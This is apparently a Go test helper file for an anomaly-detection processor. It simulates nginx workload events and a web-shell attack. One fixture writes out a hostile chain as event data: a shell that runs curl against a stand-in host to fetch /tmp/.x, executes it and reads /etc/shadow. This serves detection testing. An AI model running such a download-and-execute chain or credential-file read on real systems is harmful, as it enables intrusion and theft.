// SPDX-License-Identifier: Apache-2.0

package anomalyprocessor

import (
	"maps"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/meerkat-otel/meerkat/internal/names"
	"github.com/meerkat-otel/meerkat/processor/anomalyprocessor/internal/profile"
)

// world drives the processor with what happens in workloads, by a clock of its own.
type world struct {
	*pair
	t testing.TB
}

// program is a process that runs a program.
type program struct {
	pid    int64
	path   string
	parent *program
}

// happening is one event.
type happening struct {
	name       string
	by         *program
	after      time.Duration
	attributes map[string]any
}

func newWorld(t testing.TB, config *Config) *world {
	t.Helper()
	p := newPair(t, config)
	p.start(t)
	return &world{p, t}
}

// quick is a configuration with which learning is over after an hour.
func quick() *Config {
	c := defaultConfig()
	c.Learning = LearningConfig{TimeMin: 10 * time.Minute, TimeMax: 24 * time.Hour, NewVersionMax: 10 * time.Minute, Speed: 1}
	c.Rules.Builtin = false
	return c
}

var server = &program{pid: 100, path: "/usr/sbin/nginx"}

func (p *program) starts(pid int64, path string) *program { return &program{pid, path, p} }

func executes(p *program, arguments ...any) happening {
	return happening{names.EventProcessExec, p, 0, map[string]any{names.ProcessCommandArgs: arguments}}
}

func creates(p *program, path string) happening {
	return happening{names.EventFileCreate, p, 0, map[string]any{names.FilePath: path}}
}

func reads(p *program, path string) happening {
	return happening{names.EventFileOpen, p, 0, map[string]any{names.FilePath: path, names.FileAccess: "read"}}
}

func connects(p *program, address string, port int64) happening {
	return happening{names.EventTCPConnect, p, 0, map[string]any{
		names.ConnectionSide: "client", names.ServerAddress: address, names.ServerPort: port, names.PeerKind: "external",
	}}
}

func (h happening) at(after time.Duration) happening {
	h.after = after
	return h
}

// deployment is the resource of a pod of a deployment.
func deployment(name string) map[string]any {
	return map[string]any{
		names.EnrichmentStatus: "resolved", names.K8sNamespaceName: "shop", names.K8sDeploymentName: name, names.K8sContainerName: "app",
		names.ContainerID: "c1",
	}
}

// created is when a process began.
func (p *program) created() string {
	return beginning.Add(time.Duration(p.pid) * time.Millisecond).Format(time.RFC3339Nano)
}

func (h *happening) write(to plog.LogRecord, now time.Time) {
	to.SetEventName(h.name)
	to.SetTimestamp(pcommon.NewTimestampFromTime(now.Add(h.after)))
	all := map[string]any{
		names.ProcessPID: h.by.pid, names.ProcessCreationTime: h.by.created(), names.ProcessExecutablePath: h.by.path,
	}
	if parent := h.by.parent; parent != nil {
		all[names.ProcessParentPID], all[names.ProcessParentCreationTime] = parent.pid, parent.created()
		all[names.ProcessParentExecutablePath] = parent.path
	}
	maps.Copy(all, h.attributes)
	_ = to.Attributes().FromRaw(all)
}

// batch is what happens in a workload.
func (w *world) batch(resource map[string]any, all ...happening) plog.Logs {
	data := plog.NewLogs()
	added := data.ResourceLogs().AppendEmpty()
	require.NoError(w.t, added.Resource().Attributes().FromRaw(resource))
	records := added.ScopeLogs().AppendEmpty().LogRecords()
	for at := range all {
		all[at].write(records.AppendEmpty(), w.now)
	}
	return data
}

// happens sends events of a workload.
func (w *world) happens(resource map[string]any, all ...happening) {
	w.t.Helper()
	require.NoError(w.t, w.pipelines[0].ConsumeLogs(w.t.Context(), w.batch(resource, all...)))
}

// ordinaryTimes is what happens in a web server all the time.
func ordinaryTimes() []happening {
	convert := server.starts(101, "/usr/bin/convert")
	return []happening{
		creates(server, "/var/cache/nginx/upload"), executes(convert, "convert", "-resize", "100x100"), connects(server, "203.0.113.5", 5432),
		reads(server, "/srv/www/index.html"),
	}
}

// learns makes ordinary times pass until the workload is watched.
func (w *world) learns(resource map[string]any, ordinary func() []happening) {
	w.t.Helper()
	for range 25 * 360 {
		w.now = w.now.Add(10 * time.Second)
		w.happens(resource, ordinary()...)
		if w.state(resource) == profile.Watching {
			return
		}
	}
	require.Fail(w.t, "it is never watched")
}

// state is that of the profile of a workload.
func (w *world) state(resource map[string]any) profile.State {
	p := w.core.profiles.Acquire("shop/deployment/" + resource[names.K8sDeploymentName].(string) + "/app")
	defer p.Release()
	return p.State()
}

// webShell is an attack of four steps by processes with pids from a number on.
func webShell(first int64) []happening {
	shell := server.starts(first, "/bin/sh")
	curl, payload := shell.starts(first+1, "/usr/bin/curl"), shell.starts(first+2, "/tmp/.x")
	return []happening{
		executes(shell, "sh", "-c", "curl http://203.0.113.9/x"), executes(curl, "curl", "http://203.0.113.9/x", "-o", "/tmp/.x").at(time.Second),
		creates(curl, "/tmp/.x").at(2 * time.Second), executes(payload, "/tmp/.x").at(3 * time.Second),
		reads(payload, "/etc/shadow").at(4 * time.Second),
	}
}

// ids returns the incidents that were told of, each once, in their order.
func (w *world) ids() []string {
	var all []string
	seen := map[string]bool{}
	for _, record := range w.told() {
		if id := textOf(record, names.IncidentID); !seen[id] {
			seen[id] = true
			all = append(all, id)
		}
	}
	return all
}

// told returns what was told of incidents so far.
func (w *world) told() []plog.LogRecord { return told(w.sinks[0].AllLogs()) }

func textOf(record plog.LogRecord, name string) string {
	value, _ := record.Attributes().Get(name)
	return value.AsString()
}

// ends shuts down, after which everything is told.
func (w *world) ends() { w.shutdown(w.t) }
